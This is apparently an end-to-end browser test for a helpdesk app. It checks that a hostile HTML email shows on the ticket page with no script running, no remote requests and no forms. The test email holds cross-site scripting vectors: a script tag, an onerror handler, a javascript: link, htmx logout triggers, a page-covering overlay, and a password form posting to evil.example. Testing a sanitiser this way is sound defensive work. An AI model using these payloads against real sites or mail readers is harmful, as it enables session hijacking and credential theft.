"""Hostile HTML mail (script, event handlers, javascript: links, htmx attributes, escaping CSS)
is shown on the ticket page in a real browser with nothing of it running."""
import pytest

from app.mail.receive import receive_mail
from app.services import mailboxes
from tests.e2e.conftest import log_in

pytestmark = pytest.mark.e2e
expect = pytest.importorskip(
    "playwright.sync_api", reason="the playwright Python package is not installed").expect

HOSTILE = b"""From: Mallory <mallory@example.org>
To: support@acme.example
Subject: Invoice attached
Message-ID: <hostile-1@example.org>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<p id="greeting">Hello, please see the invoice.</p>
<script>window.__pwned = 1</script>
<img src="x" onerror="window.__pwned = 2">
<a id="js-link" href="javascript:window.__pwned = 3">open invoice</a>
<div hx-get="/logout" hx-trigger="load" data-hx-post="/logout">htmx bait</div>
<div id="overlay" style="position:fixed;top:0;left:0;width:100%;height:100%;background:red;z-index:9999">cover</div>
<form action="https://evil.example/steal"><input name="password"></form>
<iframe src="https://evil.example/"></iframe>
<svg><script>window.__pwned = 4</script></svg>
<img src="https://tracker.example/pixel.gif" alt="tracking pixel">
"""


def test_hostile_mail_is_shown_inert(open_tab, app, settings, brand, agent):
    mailbox = mailboxes.create_mailbox("acme-support", {
        "brand": brand.slug, "imap_host": "127.0.0.1", "imap_port": 1, "imap_security": "none",
        "username": "support@acme.example"}, "unused")
    ticket = receive_mail(HOSTILE.replace(b"\n", b"\r\n"), mailbox, "test:hostile", settings).ticket

    tab = open_tab()
    log_in(tab, agent.email)
    page = tab.page
    page.on("dialog", lambda dialog: pytest.fail(f"a dialog opened: {dialog.message}"))
    page.goto(f"/tickets/{ticket.id}")
    body = page.locator(".mail-html")
    expect(body).to_contain_text("Hello, please see the invoice.")
    expect(body).to_contain_text("htmx bait")

    assert page.evaluate("window.__pwned") is None
    assert body.locator("script, iframe, form, input, svg").count() == 0
    link = body.locator("a", has_text="open invoice")
    assert not (link.get_attribute("href") or "").startswith("javascript:")
    bait = body.locator("div", has_text="htmx bait").last
    assert bait.get_attribute("hx-get") is None and bait.get_attribute("data-hx-post") is None
    # The overlay stays in the message's box, not over the page.
    assert page.evaluate("getComputedStyle(document.evaluate(\"//div[text()='cover']\", document,"
                         " null, 9, null).singleNodeValue).position") != "fixed"
    # The remote image is held back until asked for.
    expect(page.get_by_role("link", name="Show 1 remote image")).to_be_visible()
    assert not any("tracker.example" in url for _, url in tab.requests)
    assert not any("/logout" in url for _, url in tab.requests)
    expect(page.get_by_role("button", name="Log out")).to_be_visible()
    assert tab.csp_errors() == []
